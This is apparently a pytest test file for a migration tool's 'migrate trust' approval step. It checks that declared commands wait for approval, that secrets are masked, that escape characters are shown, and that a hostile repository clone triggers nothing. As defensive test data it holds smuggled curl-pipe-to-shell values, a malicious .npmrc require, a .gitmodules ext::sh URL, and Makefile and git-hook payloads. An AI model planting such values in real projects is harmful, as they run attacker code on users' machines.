"""`migrate trust`, and what plan and run do with and without it."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from dataclasses import dataclass
from importlib import resources
from pathlib import Path
from types import SimpleNamespace

import pytest
from pydantic import BaseModel

from migrator.cli import demonstration
from migrator.cli.app import app
from migrator.errors import Finding
from migrator.facts import Facts
from migrator.paths import RepoPath
from migrator.phase import Notes, Steps
from migrator.report import trusted
from migrator.secrets import approvable
from migrator.step import Move, Step
from tests.cli.conftest import FILES, Runner
from tests.conftest import git


class Options(BaseModel):
    pass


@dataclass
class Asking:
    """Asks for a document, and moves a directory."""

    name: str = "asking"
    number: int = 1
    title: str = "Asking"
    summary: str = "asks for a document"
    options: type[BaseModel] = Options

    def steps(self, facts: Facts, options: BaseModel) -> Steps:
        contents = facts.document("api")
        if facts.tree.is_dir("three"):
            yield Step("three", "three → four", "It goes.", (Move(RepoPath("three"), RepoPath("four")),))
        said = "undeclared" if contents is None else contents.why or contents.files["out.txt"].decode()
        return Notes(findings=(Finding("document", "api", said),))


def declare(migrate: Runner, tmp_path: Path, *, fails: bool = False) -> Path:
    """A gate and a document, each of which leaves a mark when it runs."""
    mark = tmp_path / "mark"
    code = f"import pathlib, sys; pathlib.Path({str(mark)!r}).touch(); pathlib.Path('out.txt').write_text('made')"
    end = "; sys.exit(pathlib.Path('four').exists())" if fails else ""
    table = f"[gates.tests]\ncommand = {json.dumps([sys.executable, '-c', code + end])}\n"
    table += f"[documents.api]\ncommand = {json.dumps([sys.executable, '-c', code])}\nfiles = ['out.txt']\n"
    (migrate.directory / "migrate.toml").write_text(table, encoding="utf-8")
    return mark


@pytest.fixture
def asking(migrate: Runner, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Runner:
    monkeypatch.setenv("MIGRATE_TRUST_DIR", str(tmp_path / "trust"))
    return Runner(migrate.directory, migrate.capture, [Asking()])


def document(result: dict) -> str:
    return next(finding["message"] for finding in result["findings"] if finding["kind"] == "document")


# without -----------------------------------------------------------------------------------------------------------------


def test_without_approval_plan_and_run_do_all_that_needs_no_command_and_say_what_does(asking: Runner, tmp_path: Path) -> None:
    mark = declare(asking, tmp_path)
    plan = asking("plan", "--json").json
    assert plan["waiting"] == {"commands": ["gate tests", "document api"], "why": "nobody approved that"}
    assert document(plan) == "its command did not run, nobody approved that"
    run = asking("run", "--json", code=5).json
    assert [step["id"] for step in run["steps"]] == ["asking/three"]
    assert run["tree"] == plan["tree"]
    assert run["waiting"] == {"commands": ["gate tests"], "why": "nobody approved that"}
    gates = {gate["gate"]: gate for gate in run["steps"][0]["gates"]}
    assert (gates["tests"]["passed"], gates["tests"]["ran"]) == (False, False)
    assert all(gate["passed"] and gate["ran"] for name, gate in gates.items() if name != "tests")
    assert not mark.exists()


def test_without_approval_people_read_the_same(asking: Runner, tmp_path: Path) -> None:
    declare(asking, tmp_path)
    plan = asking("plan").out
    assert "! gate tests, document api would not run: nobody approved that (migrate trust)" in plan
    assert "Next:  migrate trust " in plan
    run = asking("run", code=5).out
    assert "tests not run" in run
    assert "! gate tests judged none of these steps: nobody approved that (migrate trust)" in run
    assert "Next:  migrate trust " in run
    assert "run again so that the gates judge it" in run


def test_a_run_that_makes_no_step_asks_no_gate(asking: Runner, tmp_path: Path) -> None:
    asking("run", "--json")
    declare(asking, tmp_path)
    run = asking("run", "--json").json
    assert (run["steps"], run["waiting"]["commands"]) == ([], [])


def test_what_landed_unjudged_is_judged_when_it_is_taken_back_and_made_again(asking: Runner, tmp_path: Path) -> None:
    declare(asking, tmp_path, fails=True)
    assert len(asking("run", "--json", code=5).json["steps"]) == 1
    assert [step["unjudged"] for step in asking("status", "--json").json["branches"][0]["steps"]] == [["tests"]]
    assert "! gates  tests did not judge 1 step, nobody had approved that" in asking("status").out
    asking("trust", "--yes")
    asking("rollback", "--all")
    run = asking("run", "--json", code=5).json
    assert (run["steps"], [step["id"] for step in run["set_aside"]]) == ([], ["asking/three"])


# with ------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("how", ["memory", "option", "environment"])
def test_with_approval_everything_runs(asking: Runner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str) -> None:
    mark = declare(asking, tmp_path)
    options: list[str] = []
    if how == "memory":
        asking("trust", "--yes")
    else:
        fingerprint = asking("trust", "--json").json["fingerprint"]
        options = ["--trust", fingerprint] if how == "option" else []
        monkeypatch.setenv("MIGRATE_TRUST", fingerprint if how == "environment" else "")
    assert not mark.exists(), "to approve is not to run"
    plan = asking("plan", "--json", *options).json
    assert (document(plan), plan["waiting"]["commands"]) == ("made", [])
    run = asking("run", "--json", *options).json
    assert {gate["gate"]: gate["ran"] for gate in run["steps"][0]["gates"]}["tests"]
    assert run["waiting"] == {"commands": [], "why": ""}
    assert asking("status", "--json").json["branches"][0]["steps"][0]["unjudged"] == []
    assert mark.exists()


@pytest.mark.parametrize("how", ["memory", "option", "environment"])
def test_a_text_that_changed_is_asked_for_again(asking: Runner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str) -> None:
    declare(asking, tmp_path)
    options: list[str] = []
    if how == "memory":
        asking("trust", "--yes")
    else:
        fingerprint = asking("trust", "--json").json["fingerprint"]
        options = ["--trust", fingerprint] if how == "option" else []
        monkeypatch.setenv("MIGRATE_TRUST", fingerprint if how == "environment" else "")
    mark = declare(asking, tmp_path, fails=True)
    why = "the texts are not those that were approved" if how == "memory" else "what was given with --trust or MIGRATE_TRUST approves other texts"
    assert asking("plan", "--json", *options).json["waiting"]["why"] == why
    assert asking("run", "--json", *options, code=5).json["waiting"]["why"] == why
    assert not mark.exists()


def test_a_document_that_was_made_before_is_not_used_without_approval(asking: Runner, tmp_path: Path) -> None:
    declare(asking, tmp_path)
    asking("trust", "--yes")
    assert document(asking("plan", "--json").json) == "made"
    asking("trust", "--forget")
    assert document(asking("plan", "--json").json) == "its command did not run, nobody approved that"


# the command -------------------------------------------------------------------------------------------------------------


def test_it_shows_each_text_in_full(asking: Runner) -> None:
    table = """
[gates.tests]
command = "python -m pytest 'a  b'"
setup = ["npm", "ci"]
directory = "one"
links = ["node_modules", "x/.venv"]
read = "junit"
report = "r.xml"
env = { MODE = "ci", API_TOKEN = "hunter22" }
"""
    (asking.directory / "migrate.toml").write_text(table, encoding="utf-8")
    rows = [line.strip() for line in asking("trust").out.splitlines()]
    for row in (
        "? gate tests  new · line 2",
        "command      python -m pytest 'a  b'",
        "setup        npm ci",
        "directory    one",
        "environment  MODE=ci",
        "environment  API_TOKEN=•••",
        "links        node_modules of your work tree, to read and to write",
        "links        x/.venv of your work tree, to read and to write",
        "read         junit",
        "report       r.xml",
        "! a secret is hidden here: read line 2 and below before you approve it",
        "! not approved: nobody approved that",
    ):
        assert row in rows
    out = asking("trust", "--json").json
    assert "hunter22" not in json.dumps(out)
    (command,) = out["commands"]
    assert command["command"] == ["python", "-m", "pytest", "a  b"]
    assert command["hidden"]
    assert not out["approved"]


@pytest.mark.parametrize(
    "text, seen",
    [
        ("make check", "make check"),
        ("größe", "größe"),
        ("a\x1b[2Jb", "a\\x1b[2Jb"),
        ("a\rb", "a\\rb"),
        ("a\nb", "a\\nb"),
        ("a\u202eb", "a\\u202eb"),
        ("a\u200bb", "a\\u200bb"),
        ("a\u0336b", "a\\u0336b"),
        ("a\u00a0b", "a\\xa0b"),
        ("a" + " " * 500 + "b", "a⟨500 spaces⟩b"),
    ],
)
def test_nothing_can_be_overlooked(text: str, seen: str) -> None:
    assert trusted.visible(text) == seen


@pytest.mark.parametrize(
    "text, seen",
    [
        ("--password=hunter22", "--password=•••"),
        ("postgres://u:hunter22@db/x", "postgres://u:•••@db/x"),
        ("Bearer ghp_" + "a1" * 12, "Bearer •••"),
        ("TOKEN=$(curl${IFS}x|sh)", "TOKEN=$(curl${IFS}x|sh)"),
        ("TOKEN=./steal", "TOKEN=./steal"),
        ("x://a:$(curl${IFS}x|sh)@b", "x://a:$(curl${IFS}x|sh)@b"),
        ("-----BEGIN PRIVATE KEY-----; curl x | sh", "-----BEGIN PRIVATE KEY-----; curl x | sh"),
        (
            "-----BEGIN PRIVATE KEY-----\n" + "A1b2" * 16 + "\n-----END PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY-----\n•••\n-----END PRIVATE KEY-----",
        ),
    ],
)
def test_only_what_can_do_nothing_is_hidden(text: str, seen: str) -> None:
    assert approvable(text) == seen


@pytest.mark.parametrize("answer, approved", [("y\n", True), ("YES\n", True), ("n\n", False), ("\n", False), ("", False), ("sure\n", False)])
def test_on_a_terminal_it_asks(asking: Runner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, answer: str, approved: bool) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    declare(asking, tmp_path)
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setattr("sys.stdin", Terminal(answer))
    assert "[y/N]" in asking("trust").out
    monkeypatch.delenv("FORCE_COLOR")
    assert asking("trust", "--json").json["approved"] is approved
    assert ("[y/N]" in asking("trust", "--forget").out) is False


def test_what_nobody_is_there_to_answer_is_not_asked(asking: Runner, tmp_path: Path) -> None:
    declare(asking, tmp_path)
    assert "[y/N]" not in asking("trust").out
    assert not asking("trust", "--json").json["approved"]
    assert asking("trust", "--json", "--yes").json["approved"]
    assert [command["state"] for command in asking("trust", "--json").json["commands"]] == ["approved", "approved"]


@pytest.mark.parametrize("text", [None, "", 'exclude = ["x/"]\n'])
def test_where_nothing_is_declared_there_is_nothing_to_approve(asking: Runner, text: str | None) -> None:
    if text is not None:
        (asking.directory / "migrate.toml").write_text(text, encoding="utf-8")
    assert "nothing to approve" in asking("trust", "--yes").out
    out = asking("trust", "--json").json
    assert (out["approved"], out["fingerprint"], out["commands"]) == (False, "", [])


def test_the_plan_file_of_another_commit_can_be_shown(asking: Runner, tmp_path: Path) -> None:
    declare(asking, tmp_path)
    git(asking.directory, "add", "migrate.toml")
    git(asking.directory, "commit", "-q", "-m", "declare")
    git(asking.directory, "rm", "-q", "migrate.toml")
    git(asking.directory, "commit", "-q", "-m", "do not")
    assert asking("trust", "--json").json["commands"] == []
    out = asking("trust", "--json", "--base", "HEAD~1").json
    assert (len(out["commands"]), out["source"]) == (2, "migrate.toml of the commit")


MISTAKES = [
    (("trust", "--yes", "--forget"), "exclude each other"),
    (("plan", "--trust", "yes"), "is no fingerprint"),
    (("run", "--trust", "yes"), "is no fingerprint"),
]


@pytest.mark.parametrize("words, said", MISTAKES)
def test_mistakes(asking: Runner, words: tuple[str, ...], said: str) -> None:
    assert said in asking(*words, code=2).err


def test_the_demo_trusts_what_it_brings_along(migrate: Runner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    sample = tmp_path / "acme"
    for path, text in FILES.items():
        (sample / path).parent.mkdir(parents=True, exist_ok=True)
        (sample / path).write_text(text, encoding="utf-8")
    runner = Runner(migrate.directory, migrate.capture, [Asking()])
    mark = declare(Runner(sample, migrate.capture), tmp_path)
    monkeypatch.setattr(demonstration, "resources", SimpleNamespace(files=lambda _: tmp_path, as_file=resources.as_file))
    monkeypatch.setattr(demonstration, "_SAMPLE", ("acme",))
    out = runner("demo", "--json").json
    assert (out["run"]["waiting"]["commands"], document(out["plan"]), mark.exists()) == ([], "made", True)


# what a hostile repository does not get ---------------------------------------------------------------------------------

_COMMANDS = [
    ("init", "--print"),
    ("plan", "--diff"),
    ("plan", "--json"),
    ("run",),
    ("status",),
    ("log",),
    ("verify", "--rev", "migrate/phase-1"),
    ("report", "--html"),
    ("report", "--pr"),
    ("review", "--branch", "migrate/phase-1"),
    ("carry", "feature", "--onto", "migrate/phase-1"),
    ("update",),
    ("shims",),
    ("shims", "--remove"),
    ("status", "--open"),
    ("rollback", "--phase", "1", "--onto", "migrate/phase-1"),
    ("rollback", "--all"),
    ("graph",),
    ("graph", "--landscape"),
    ("explain", "one/a.py"),
    ("graph", "--format", "json"),
    ("mv", "three", "four", "--dry-run"),
    ("mv", "one/a.py::VALUE", "one/__init__.py"),
    ("mv", "two", "five", "--in-place"),
    ("doctor",),
    ("doctor", "--formats"),
    ("phases",),
    ("answer", "--set", "q1=yes"),
    ("schema", "migrate-toml"),
    ("staged",),
    ("completion", "bash"),
    ("completion", "bash", "--", "plan", "--step", ""),
    ("trust",),
    ("trust", "--json"),
]


def test_no_command_of_a_hostile_clone_runs_anything_of_it(asking: Runner, tmp_path: Path) -> None:
    mark = declare(asking, tmp_path)
    touch = f"import pathlib; pathlib.Path({str(mark)!r}).touch()\n"
    shell = f"#!/bin/sh\ntouch '{mark.as_posix()}'\n"
    python = ("setup.py", "conftest.py", "sitecustomize.py", "usercustomize.py", "manage.py", "noxfile.py", ".ropeproject/config.py", "one/evil.py")
    programs = ("git", "node", "npm", "uv", "docker", "make", "git.bat", "node.cmd", ".githooks/post-checkout", ".git-hooks/pre-commit")
    for path, text in [*((path, touch) for path in python), *((path, shell) for path in programs)]:
        (asking.directory / path).parent.mkdir(parents=True, exist_ok=True)
        (asking.directory / path).write_text(text, encoding="utf-8")
        (asking.directory / path).chmod(0o755)
    others = {
        "package.json": json.dumps({"name": "x", "scripts": dict.fromkeys(("preinstall", "test", "build"), "./npm"), "packageManager": "npm@1.0.0"}),
        ".npmrc": "node-options=--require ./evil.js\n",
        ".gitattributes": "* filter=evil diff=evil merge=evil\n",
        ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c ./git\n\tupdate = !./git\n',
        ".envrc": f"touch {mark.as_posix()}\n",
        "Makefile": f"$(shell touch {mark.as_posix()})\ncheck:\n\ttouch {mark.as_posix()}\n",
        "pyproject.toml": '[tool.rope]\nproject_opened = "x"\n[build-system]\nbuild-backend = "setup"\nbackend-path = ["."]\n',
    }
    for path, text in others.items():
        (asking.directory / path).write_text(text, encoding="utf-8")
    git(asking.directory, "add", "-A")
    git(asking.directory, "commit", "-q", "-m", "hostile")
    for words in _COMMANDS:
        asking(*words, code=None)
        assert not mark.exists(), words


def test_every_command_is_among_those_that_run_nothing() -> None:
    names = {command.name or command.callback.__name__ for command in app.registered_commands if command.callback is not None}
    assert {words[0] for words in _COMMANDS} == names - {"done", "demo"}


@pytest.mark.skipif(sys.platform == "win32", reason="such names cannot be on disk there")
def test_names_that_a_terminal_would_obey_are_shown_and_not_obeyed(asking: Runner) -> None:
    (asking.directory / "three/\x1b]0;owned\x07\x1b[2Jx.py").write_text("import \n", encoding="utf-8")
    (asking.directory / "migrate.toml").write_text('[gates."\\u001b[2J"]\ncommand = "\\u001b[31mx"\n', encoding="utf-8")
    git(asking.directory, "add", "-A")
    git(asking.directory, "commit", "-q", "-m", "\x1b[2Jsubject")
    for words in (("plan", "-v"), ("trust",), ("run",), ("status", "-v"), ("log",), ("mv", "three", "x", "--dry-run"), ("rollback", "--all")):
        done = asking(*words, code=None)
        if "--dry-run" not in words:
            assert "\x1b" not in done.out + done.err, words


def test_a_home_without_a_name_is_no_reason_to_fail(asking: Runner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    declare(asking, tmp_path)
    monkeypatch.setenv("MIGRATE_TRUST_DIR", str(tmp_path / "a file" / "below"))
    (tmp_path / "a file").write_text("", encoding="utf-8")
    assert "gate tests" in asking("plan").out
    assert "cannot be written" in asking("trust", "--yes", code=3).err


def test_the_user_data_directory_is_the_default(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    script = "from migrator.trust import trust_directory; print(trust_directory())"
    environment = {key: value for key, value in os.environ.items() if key != "MIGRATE_TRUST_DIR"} | {"XDG_DATA_HOME": str(tmp_path)}
    done = subprocess.run([sys.executable, "-c", script], env=environment, capture_output=True, text=True, encoding="utf-8", check=True)
    assert done.stdout.strip().endswith("migrate")
    assert sys.platform != "linux" or done.stdout.strip() == str(tmp_path / "migrate")
